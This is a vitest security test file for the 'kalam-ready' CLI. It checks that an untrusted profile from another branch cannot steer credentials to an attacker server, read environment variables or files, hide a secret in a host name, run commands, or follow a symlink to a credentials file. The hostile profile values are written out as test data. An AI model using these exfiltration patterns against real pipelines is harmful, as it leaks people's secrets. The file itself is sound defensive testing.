/** A profile that comes with a branch of somebody else must not get at the secrets of the environment. */
import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { networkInterfaces, tmpdir } from "node:os";
import path from "node:path";
import { afterAll, describe, expect, test } from "vitest";
import { cli, webServer, type CliResult } from "./cli.ts";

/** Starting node takes its time on a busy machine. */
const processes = { timeout: 30_000 };
const folder = mkdtempSync(path.join(tmpdir(), "kalam-ready-trust-"));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

const secret = "AKIA-not-for-you";
const base = {
  KALAM_READY_STATE: path.join(folder, "state"),
  KALAM_READY_USER: "root",
  KALAM_READY_PASSWORD: "pw-of-the-pipeline",
  AWS_SECRET_ACCESS_KEY: secret,
};

/** In a folder of its own, with this profile in it. */
async function checkout(
  profile: string,
  args: readonly string[],
  env: Readonly<Record<string, string>> = {},
): Promise<CliResult> {
  const cwd = mkdtempSync(path.join(folder, "checkout-"));
  writeFileSync(path.join(cwd, "kalam-ready.yaml"), `version: 1\n${profile}`);
  return await cli([...args, "--debug"], { cwd, env: { ...base, ...env } });
}
const codesOf = ({ stderr }: CliResult): string[] => [...stderr.matchAll(/\[(\w+)\]$/gm)].map(([, code = ""]) => code);

describe("a profile that was found by itself", processes, () => {
  // Nothing listens there, and no name is resolved: the run must end before that.
  const attacker = "http://192.0.2.1:8080";

  test.each([
    ["the password of the environment", "", {}],
    ["the token of the environment", "", { KALAM_READY_TOKEN: "tok-of-the-pipeline" }],
    [
      "any other variable",
      'login: { user: root, password: "${env:AWS_SECRET_ACCESS_KEY}" }',
      { KALAM_READY_PASSWORD: "" },
    ],
    [
      "a file",
      'login: { user: root, token: "${file:/etc/hostname}" }',
      { KALAM_READY_PASSWORD: "", KALAM_READY_USER: "" },
    ],
  ])("does not choose who gets %s", async (_, login, env) => {
    for (const command of ["check", "prove", "cleanup"]) {
      const result = await checkout(`server: ${attacker}\n${login}`, [command], env);
      expect([result.code, result.stdout, ...codesOf(result)]).toEqual([78, "", "untrustedServer"]);
      expect(result.stderr).toMatch(
        /^kalam-ready\.yaml:2: .*--url http:\/\/192\.0\.2\.1:8080 or --profile \.\/kalam-ready\.yaml/,
      );
      expect(result.stderr).not.toContain(secret);
    }
  });

  test("names no commands to run, and no container, not even for this machine", async () => {
    const file = path.join(folder, "was-run");
    const command = JSON.stringify({ kill: ["touch", file], start: ["touch", file] });
    for (const control of [`{ command: ${command} }`, "{ docker: { container: db } }"]) {
      const result = await checkout(`server: http://127.0.0.1:1\ncontrol: ${control}`, ["check", "--allow", "process"]);
      expect([result.code, result.stdout, ...codesOf(result)]).toEqual([78, "", "untrustedControl"]);
      expect(result.stderr).toMatch(/^kalam-ready\.yaml:3: control: .*--profile \.\/kalam-ready\.yaml/);
      expect(existsSync(file)).toBe(false);
    }
  });

  test("nor does a variable of its choice, or a secret in a host name", async () => {
    for (const server of ["${env:TITLE}", "http://${env:AWS_SECRET_ACCESS_KEY}.192.0.2.1.example"]) {
      const result = await checkout(`server: ${server}`, ["check"], { TITLE: attacker });
      expect([result.code, ...codesOf(result)]).toEqual([78, "untrustedServer"]);
      expect(result.stderr.toLowerCase()).not.toContain(secret.toLowerCase());
    }
  });

  test("sends them to this machine, and where a flag or the environment says", async () => {
    const asked: string[] = [];
    const other = await webServer((request, response) => {
      asked.push(request.url ?? "");
      response.writeHead(403).end();
    });
    try {
      const { url } = other;
      const results = await Promise.all([
        checkout(`server: ${url}`, ["check"]),
        checkout(`server: ${attacker}`, ["check", "--url", url]),
        checkout(`server: ${attacker}`, ["check"], { KALAM_READY_URL: url }),
      ]);
      expect(results.map(({ code }) => code)).not.toContain(78);
      expect(asked.length).toBeGreaterThanOrEqual(3);
    } finally {
      other.close();
    }
  });

  test("is no link to a file elsewhere, whose lines would be shown", async () => {
    const cwd = mkdtempSync(path.join(folder, "link-"));
    writeFileSync(path.join(folder, "credentials"), "aws_key: hunter22\n");
    symlinkSync(path.join(folder, "credentials"), path.join(cwd, "kalam-ready.yaml"));
    const result = await cli(["check", "--debug"], { cwd, env: base });
    expect([result.code, ...codesOf(result)]).toEqual([78, "profileUnreadable"]);
    expect(result.stderr).not.toContain("aws_key");
  });

  test("shows no variable, wherever it names one", { timeout: 120_000 }, async () => {
    const places = [
      "name: ${env:AWS_SECRET_ACCESS_KEY}",
      "login: { user: '${env:AWS_SECRET_ACCESS_KEY}' }",
      "skip: { configuration/clock-in-step: '${env:AWS_SECRET_ACCESS_KEY}' }",
      "effort: ${env:AWS_SECRET_ACCESS_KEY}",
      "only: ['${env:AWS_SECRET_ACCESS_KEY}']",
      "accept: [{ check: '${env:AWS_SECRET_ACCESS_KEY}', finding: x, reason: y, until: 2026-01-01 }]",
      "reports: [{ format: json, path: '/dev/null/${env:AWS_SECRET_ACCESS_KEY}/x' }]",
    ];
    for (const place of places) {
      for (const args of [["profile", "show"], ["plan"], ["check", "--url", "http://127.0.0.1:9"]]) {
        const { stdout, stderr } = await checkout(place, args, { KALAM_READY_USER: "" });
        expect([place, `${stdout}${stderr}`.includes(secret)]).toEqual([place, false]);
      }
    }
  });
});

test("a profile that was named chooses the server, and is read through a pipe, too", processes, async () => {
  const profile = "version: 1\nserver: http://127.0.0.1:9\n";
  const file = path.join(folder, "mine.yaml");
  writeFileSync(file, profile.replace("127.0.0.1", "localhost"));
  expect((await cli(["check", "--profile", file], { env: base })).code).toBe(69);
  expect((await cli(["check"], { env: { ...base, KALAM_READY_PROFILE: file } })).code).toBe(69);
  expect((await cli(["check", "--profile", "-"], { env: base, input: profile })).code).toBe(69);
});

test("a file that does not end is refused, whoever named it", processes, async () => {
  const results = [
    await cli(["check", "--profile", "/dev/zero", "--debug"], { env: base }),
    await checkout("name: ${file:/dev/zero}", ["check"]),
    await cli(["check", "--url", "http://127.0.0.1:9", "--token-file", "/dev/zero", "--debug"], {
      env: { ...base, KALAM_READY_USER: "" },
    }),
  ];
  expect(results.map((result) => [result.code, ...codesOf(result)])).toEqual([
    [78, "profileUnreadable"],
    [78, "unreadableFile"],
    [64, "tokenUnreadable"],
  ]);
});

test("credentials over plain HTTP to another machine: a warning", processes, async () => {
  const warning = /warning: the credentials go to http:\S+ unencrypted/;
  const other = Object.values(networkInterfaces())
    .flatMap((addresses) => addresses ?? [])
    .find(({ internal, family }) => !internal && family === "IPv4");
  const check = async (url: string): Promise<string> => (await cli(["check", "--url", url], { env: base })).stderr;
  expect(await check(`http://${other?.address ?? "0.0.0.0"}:9`)).toMatch(warning);
  expect(await check("http://127.0.0.1:9")).not.toMatch(warning);
  expect(await check("https://127.0.0.1:9")).not.toMatch(warning);
});
